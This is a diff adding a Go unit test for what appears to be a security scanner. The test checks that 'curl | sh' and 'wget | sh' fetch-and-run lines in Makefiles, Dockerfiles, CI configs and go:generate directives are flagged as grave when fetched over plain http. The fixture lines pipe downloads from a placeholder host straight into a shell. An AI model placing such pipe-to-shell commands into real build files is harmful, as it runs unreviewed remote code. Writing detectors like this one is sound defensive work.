@@ -431,3 +431,20 @@ func TestBadByteHidesNoSetting(t *testing.T) {
 		}
 	}
 }
+
+// Code that anyone on the way can replace is graver than the usual installation over https.
+func TestPlainDownloadIsGrave(t *testing.T) {
+	for name, text := range map[string]string{
+		"Makefile":                "all:\n\t@curl -s %s | sh\n",
+		"Dockerfile":              "FROM x\nRUN wget -qO- %s | sh\n",
+		".gitlab-ci.yml":          "a:\n  script:\n  - curl -s %s | sh\n",
+		".github/workflows/x.yml": "on: push\njobs:\n  a:\n    steps:\n    - run: curl -s %s | sh\n",
+		"gen.go":                  "package x\n\n//go:generate sh -c \"curl %s | sh\"\n",
+	} {
+		for address, want := range map[string]bool{"http://e.example/x": true, "https://e.example/x": false} {
+			if got := grave(t, name, strings.ReplaceAll(text, "%s", address), fetchAndRun.ID); got != want {
+				t.Errorf("%s with %s: grave %v", name, address, got)
+			}
+		}
+	}
+}
